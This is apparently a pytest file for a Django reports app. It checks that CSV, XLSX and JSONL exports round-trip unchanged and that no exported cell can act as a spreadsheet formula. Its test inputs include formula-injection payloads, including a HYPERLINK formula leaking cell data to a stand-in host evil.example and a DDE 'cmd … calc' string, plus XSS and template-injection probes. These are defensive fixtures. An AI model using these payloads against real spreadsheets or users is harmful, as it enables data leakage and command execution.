"""Exports: what they hold, that reading them back changes nothing, and that no cell becomes a formula."""

import csv
import datetime as dt
import io
import json
import zipfile

import openpyxl
import pytest

from reports import exchange
from reports.exchange import cells, export
from reports.exchange.plan import make_plan
from reports.models import Agency, LegacyAddress, Report
from tests import factories

pytestmark = pytest.mark.django_db
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Read me")', "+1+1", "-2+3", "@SUM(A1)", "'=1+1", "''=1+1", "' =x",
    "'Tis the season", "＝1+1", "A; B | C, \"D\" 'E'", "<script>alert(1)</script>",
    "Ünïcödé ’ — “quoted” \u202egnp", "1-2", "22-02", "1E5", "TRUE",
    "a\x0bb", "_x000D_", "{{ 7*7 }}",
]  # fmt: skip


def file_of(kind, reports=None):
    """The bytes of an export of all reports."""
    ids = (reports or Report.objects.order_by("pk")).values_list("pk", flat=True)
    found = export.rows(ids, is_allowed=lambda report: True)
    if kind == "xlsx":
        with export.xlsx_file(found) as file:
            return file.read()
    return "".join(export.csv_lines(found) if kind == "csv" else export.json_lines(found)).encode()


def plan_of(kind, data, **terms):
    return make_plan(exchange.read_bytes(data, f"a.{kind}"), lock=False, terms=exchange.Terms(**terms))


@pytest.fixture
def full(db):
    """A report that says something in every column."""
    report = factories.published(
        "OIG-24-01", "Wildlife at ports", agencies=["CBP", "ICE"], topics=["grants", "trafficking"], area="Border Security",
        report_type="audit", issued_on=dt.date(2023, 12, 4), executive_summary="We looked.\n\n- at ports",
    )  # fmt: skip
    LegacyAddress.objects.create(report=report, path="/reports/2013-05/a-page")
    LegacyAddress.objects.create(report=report, path="/assets/100% of it?.pdf")
    return report


def test_columns_and_cells(full, settings):
    settings.ORIGIN = "https://oig.example.gov"
    rows = list(csv.reader(io.StringIO(file_of("csv").decode("utf-8-sig"), newline="")))
    assert rows == [
        [
            "Report Number", "Title", "Fiscal Year", "Issue Date", "Agencies", "Oversight Area", "Keywords", "Type",
            "Executive Summary", "Document File", "Source page", "Where it stands", "Public address",
        ],
        [
            "OIG-24-01", "Wildlife at ports", "2024", "2023-12-04", "CBP; ICE", "Border Security", "grants; trafficking",
            "Audit", "We looked.\n\n- at ports", "/assets/100%25%20of%20it%3F.pdf", "/reports/2013-05/a-page", "Published",
            "https://oig.example.gov/reports/oig-24-01/",
        ],
    ]  # fmt: skip
    assert json.loads(file_of("jsonl"))["agencies"] == ["CBP", "ICE"]
    sheet = openpyxl.load_workbook(io.BytesIO(file_of("xlsx"))).worksheets[0]
    assert [[cell.value or "" for cell in row] for row in sheet.iter_rows()] == rows


@pytest.mark.parametrize("kind", ["csv", "xlsx", "jsonl"])
@pytest.mark.parametrize("overwrites", [False, True])
def test_reading_it_back_changes_nothing(full, kind, overwrites):
    for n, title in enumerate(HOSTILE):
        report = factories.draft(f"H-{n}", title, executive_summary=f"{title}\r\nline\ttwo", fiscal_year=2020 + n % 5)
        report.topics.set([factories.TopicFactory(name=f"Topic, {n}", slug=f"topic-{n}")])
        Report.objects.filter(pk=report.pk).update(title=title)  # as it is, whatever a form would make of it
    factories.draft("", "=No number", issued_on=dt.date(2009, 6, 1), issued_precision="month", agencies=["X;Y|Z"])
    topics = ["Grants; more", "grants more"]
    factories.draft("=cmd|' /C calc'!A0", "A number as bad", topics=topics, unread_values={"tags": "?"})
    Agency.objects.create(name="CBP", slug="not-that-cbp", abbreviation="ZZ")
    plan = plan_of(kind, file_of(kind), overwrites=overwrites)
    assert plan.counts == {"created": 0, "updated": 0, "unchanged": len(HOSTILE) + 3, "rejected": 0}
    assert [str(one) for one in plan.messages if "says the same twice" not in one.text] == []


def test_no_cell_of_csv_begins_like_a_formula(db):
    for n, title in enumerate(HOSTILE):
        factories.draft(f"{title}{n}"[:80], title, executive_summary=f"\t{title}", topics=[f"{title} {n}"])
    cells_written = [
        text for row in csv.reader(io.StringIO(file_of("csv").decode("utf-8-sig"), newline="")) for text in row if text
    ]
    assert [text for text in cells_written if text.lstrip()[0] in "=+-@＝＋－＠" or text[0] in "\t\r\n"] == []
    assert sum(text.startswith("'") for text in cells_written) == 36


def test_cells_of_a_workbook_are_text(db):
    for n, title in enumerate(HOSTILE):
        factories.draft(f"{n}", title)
    data = file_of("xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    assert {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value is not None} == {"s"}
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    assert "<f " not in xml


def test_a_text_too_long_for_a_cell_is_left_out_of_a_workbook_alone(db):
    report = factories.draft("X-1", executive_summary="word " * 8_000)
    assert plan_of("xlsx", file_of("xlsx"), overwrites=True).counts["unchanged"] == 1
    assert json.loads(file_of("jsonl"))["executive_summary"] == report.executive_summary.strip()


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("", ""), ("plain", "plain"), ("=1", "'=1"), ("'=1", "''=1"), (" =1", "' =1"), ("\t1", "'\t1"), ("- item", "'- item"),
        ("'Tis", "'Tis"), ("'", "'"), ("＠a", "'＠a"), ("\na", "'\na"),
    ],
)  # fmt: skip
def test_guarded_cells(text, cell):
    assert cells.guarded(text) == cell
    assert cells.unguarded(cell) == text


def test_a_bounded_number_of_statements(full, django_assert_num_queries):
    counts = []
    for _ in range(2):
        with django_assert_num_queries(11) as seen:
            file_of("csv")
        counts.append(len(seen))
        factories.draft("Y-1", agencies=["TSA"], topics=["x"], area="Y")
        factories.draft("Y-2", agencies=["TSA"], topics=["z"], area="Y")
    assert counts[0] == counts[1]


def test_who_may_not_see_a_report_does_not_get_it(full):
    factories.draft("Y-1", "Secret")
    ids = list(Report.objects.order_by("pk").values_list("pk", flat=True))
    found = export.rows(ids, is_allowed=lambda report: report.title != "Secret")
    assert [one["report_number"] for one in found] == ["OIG-24-01"]
